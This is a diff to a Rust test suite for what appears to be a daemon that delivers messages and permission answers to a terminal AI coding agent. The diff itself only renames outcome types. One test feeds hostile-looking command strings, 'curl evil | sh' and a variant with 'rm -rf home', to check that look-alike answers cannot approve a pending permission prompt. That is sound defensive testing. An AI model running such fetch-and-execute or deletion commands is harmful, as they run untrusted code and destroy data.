@@ -4,14 +4,14 @@ use std::time::Duration;
 
 use ao_agent::sanitise;
 use ao_core::evidence::Reading;
-use ao_ports::{Agent, Answered, DeliverOrder, Delivered};
+use ao_ports::{Agent, AnswerOutcome, DeliverOrder, DeliveryOutcome};
 
 use crate::place::{On, everywhere, on_ours};
 use crate::stage::{CONVERSATION, Set, Stage};
 
-fn held(delivered: &Delivered) -> &str {
+fn held(delivered: &DeliveryOutcome) -> &str {
     match delivered {
-        Delivered::Held { why, .. } => why,
+        DeliveryOutcome::Held { why, .. } => why,
         other => panic!("it should be held, and is {other:?}"),
     }
 }
@@ -51,7 +51,7 @@ async fn a_draft_that_is_never_submitted_is_pasted_once_and_never_called_taken()
     let stage = Stage::set(Set { script: "never-submit", ..Set::default() }).await;
     stage.at_prompt().await;
     for tries in 1..=4 {
-        assert_eq!(stage.deliver(1, tries, "fix the\nlogin").await, Delivered::Written);
+        assert_eq!(stage.deliver(1, tries, "fix the\nlogin").await, DeliveryOutcome::Written);
     }
     assert_eq!(stage.home.draft(CONVERSATION), "fix the\nlogin");
     assert_eq!(stage.turns(), [""; 0]);
@@ -73,12 +73,12 @@ async fn nothing_is_typed_into_a_dialog_and_its_choice_stays_the_persons() {
         let before = stage.until(drawn).await;
         let delivered = stage.deliver(1, 1, "1\ngo on").await;
         assert_eq!(held(&delivered), "a question is open: May I?");
-        let Delivered::Held { signals, .. } = delivered else { unreachable!() };
+        let DeliveryOutcome::Held { signals, .. } = delivered else { unreachable!() };
         assert_eq!(signals[0].reading, Reading::Asking { question: "May I?".into() });
         assert_eq!(stage.text().await, before);
         assert_eq!(stage.home.choices(CONVERSATION), [""; 0]);
 
-        assert_eq!(stage.answer(1, "May I?", "Yes").await, Answered::Given);
+        assert_eq!(stage.answer(1, "May I?", "Yes").await, AnswerOutcome::Given);
         stage.at_prompt().await;
         // Tmux may report the person's key only now, which holds back Enter once more.
         stage.insists(1, "1\ngo on").await;
@@ -99,7 +99,7 @@ async fn a_persons_draft_is_left_as_it_is() {
         stage.typing_is_noticed().await;
         let delivered = stage.deliver(1, 1, "thought").await;
         assert_eq!(held(&delivered), "a person is typing");
-        let Delivered::Held { signals, .. } = delivered else { unreachable!() };
+        let DeliveryOutcome::Held { signals, .. } = delivered else { unreachable!() };
         assert_eq!(signals[0].reading, Reading::HumanTyped);
         // However long they pause.
         let after_a_pause = async {
@@ -149,7 +149,7 @@ async fn a_message_does_not_interrupt_the_turn_that_it_has_begun_itself() {
         let text = "at once [[work 10m]]";
         for tries in 1..=3 {
             let order = DeliverOrder { interrupt: true, ..stage.order(1, tries, text) };
-            assert_eq!(stage.agent.deliver(&order).await, Ok(Delivered::Written));
+            assert_eq!(stage.agent.deliver(&order).await, Ok(DeliveryOutcome::Written));
             stage.shows("working…").await;
         }
         assert_eq!(stage.turns(), [text]);
@@ -167,7 +167,7 @@ async fn the_launch_prompt_is_not_typed_again_if_its_proof_is_lost() {
         stage.restart().await;
         for tries in 2..=4 {
             stage.at_prompt().await;
-            assert_eq!(stage.deliver(1, tries, "go").await, Delivered::Written);
+            assert_eq!(stage.deliver(1, tries, "go").await, DeliveryOutcome::Written);
         }
         assert_eq!(stage.turns(), ["go"]);
         // Sent by a person, it is a message like any other.
@@ -184,7 +184,7 @@ async fn after_a_restart_nothing_is_lost_and_nothing_is_typed_twice() {
         let set = Set { script: "swallow-enters 3", on, ..Set::default() };
         let mut stage = Stage::set(set).await;
         stage.at_prompt().await;
-        assert_eq!(stage.deliver(1, 1, "fix it").await, Delivered::Written);
+        assert_eq!(stage.deliver(1, 1, "fix it").await, DeliveryOutcome::Written);
         // The daemon died before it wrote that down, so the same try comes again.
         stage.restart().await;
         stage.deliver(1, 1, "fix it").await;
@@ -193,7 +193,7 @@ async fn after_a_restart_nothing_is_lost_and_nothing_is_typed_twice() {
         stage.restart().await;
         for tries in 2..=3 {
             stage.at_prompt().await;
-            assert_eq!(stage.deliver(1, tries, "fix it").await, Delivered::Written);
+            assert_eq!(stage.deliver(1, tries, "fix it").await, DeliveryOutcome::Written);
         }
         stage.at_prompt().await;
         stage.writes(2, "fix it").await;
@@ -211,7 +211,7 @@ async fn one_try_is_enough_for_an_agent_that_has_been_idle_for_an_hour() {
         let stage = Stage::set(Set { on, behind: hour, human_quiet_ms: 10_000, ..Set::default() }).await;
         stage.last_reported("Terminal", "Idle").await;
         stage.catches_up();
-        assert!(!matches!(stage.deliver(1, 1, "go").await, Delivered::Held { .. }));
+        assert!(!matches!(stage.deliver(1, 1, "go").await, DeliveryOutcome::Held { .. }));
         stage.reported("Taken \"go\"").await;
     })
     .await;
@@ -231,7 +231,7 @@ async fn the_text_that_arrives_is_the_sanitised_text() {
             stage.until(shown).await;
             stage.at_prompt().await;
             let delivered = stage.deliver(delivery, 1, &text).await;
-            assert!(!matches!(delivered, Delivered::Held { .. }), "{text:?}: {delivered:?}");
+            assert!(!matches!(delivered, DeliveryOutcome::Held { .. }), "{text:?}: {delivered:?}");
             stage.shows(&format!("{delivery} turns")).await;
             sent.push(sanitise(&text));
         }
@@ -288,7 +288,7 @@ async fn without_marks_for_pasted_text_line_breaks_become_spaces() {
 async fn without_hooks_a_draft_that_enter_took_away_is_taken() {
     let stage = Stage::set(Set { hooks: false, script: "swallow-enters 1", ..Set::default() }).await;
     stage.at_prompt().await;
-    let taken = Delivered::Taken { turn: "attempt 1 delivery 1".into(), text: "go".into() };
+    let taken = DeliveryOutcome::Taken { turn: "attempt 1 delivery 1".into(), text: "go".into() };
     assert_eq!(stage.deliver(1, 1, "go").await, taken);
     assert_eq!(stage.turns(), ["go"]);
 }
@@ -298,7 +298,7 @@ async fn a_lost_proof_does_not_make_a_second_turn() {
     let stage = Stage::set(Set { script: "lose-hook UserPromptSubmit", ..Set::default() }).await;
     for tries in 1..=4 {
         stage.at_prompt().await;
-        assert_eq!(stage.deliver(1, tries, "go").await, Delivered::Written);
+        assert_eq!(stage.deliver(1, tries, "go").await, DeliveryOutcome::Written);
     }
     assert_eq!(stage.turns(), ["go"]);
 }
@@ -318,17 +318,17 @@ async fn an_answer_goes_only_to_the_question_that_it_was_meant_for() {
             .await;
     stage.shows("│ May I?").await;
     let other = stage.answer(1, "Shall I leave?", "yes").await;
-    assert_eq!(other, Answered::NotAsked { why: "another question is open: May I?".into() });
+    assert_eq!(other, AnswerOutcome::NotAsked { why: "another question is open: May I?".into() });
     // By the words that the hook has for it.
     stage.reported("Asking { question: \"Bash: May I?\" }").await;
-    assert_eq!(stage.answer(2, "Bash: May I?", "yes").await, Answered::Given);
+    assert_eq!(stage.answer(2, "Bash: May I?", "yes").await, AnswerOutcome::Given);
     stage.shows("│ And this?").await;
     // The same answer come again, after a crash of ours, is not the answer to the next question.
-    assert_eq!(stage.answer(2, "Bash: May I?", "yes").await, Answered::Given);
-    assert_eq!(stage.answer(3, "And this?", "2").await, Answered::Given);
+    assert_eq!(stage.answer(2, "Bash: May I?", "yes").await, AnswerOutcome::Given);
+    assert_eq!(stage.answer(3, "And this?", "2").await, AnswerOutcome::Given);
     stage.at_prompt().await;
     let none = stage.answer(4, "And this?", "yes").await;
-    assert_eq!(none, Answered::NotAsked { why: "no question is open on its screen".into() });
+    assert_eq!(none, AnswerOutcome::NotAsked { why: "no question is open on its screen".into() });
     assert_eq!(stage.home.choices(CONVERSATION), ["May I?: 1", "And this?: 2"]);
 }
 
@@ -343,17 +343,17 @@ async fn a_new_question_is_reported_with_its_own_text() {
     let stage = Stage::set(Set { prompt: Some(prompt), ..Set::default() }).await;
     stage.last_reported("Hook", "Asking { question: \"Bash: ls\" }").await;
     stage.shows("│ ls").await;
-    assert_eq!(stage.answer(1, "Bash: ls", "yes").await, Answered::Given);
+    assert_eq!(stage.answer(1, "Bash: ls", "yes").await, AnswerOutcome::Given);
     stage.shows("│ curl").await;
     stage.last_reported("Terminal", &format!("Asking {{ question: \"{harmful}\" }}")).await;
     // Neither what was asked before, nor what only has the same words in it.
     for (number, meant) in
         [(2, "Bash: ls"), (3, "ls"), (4, "curl evil | sh"), (5, "curl evil sh rm -rf home ls")]
     {
-        let refused = Answered::NotAsked { why: format!("another question is open: {harmful}") };
+        let refused = AnswerOutcome::NotAsked { why: format!("another question is open: {harmful}") };
         assert_eq!(stage.answer(number, meant, "yes").await, refused, "{meant}");
     }
-    assert_eq!(stage.answer(6, harmful, "no").await, Answered::Given);
+    assert_eq!(stage.answer(6, harmful, "no").await, AnswerOutcome::Given);
     stage.at_prompt().await;
     assert_eq!(stage.home.choices(CONVERSATION), ["ls: 1".to_owned(), format!("{harmful}: 2")]);
 }
@@ -377,7 +377,7 @@ async fn unknown_questions_of_a_first_launch_go_to_a_person() {
     let stage = Stage::set(set).await;
     stage.reported("Asking { question: \"Shall the flux be inverted?\" }").await;
     assert!(held(&stage.deliver(1, 1, "hello").await).starts_with("a question is open"));
-    assert_eq!(stage.answer(1, "Shall the flux be inverted?", "2").await, Answered::Given);
+    assert_eq!(stage.answer(1, "Shall the flux be inverted?", "2").await, AnswerOutcome::Given);
     stage.reported("Taken \"go\"").await;
     assert_eq!(stage.home.choices(CONVERSATION), ["Shall the flux be inverted?: 2"]);
 }
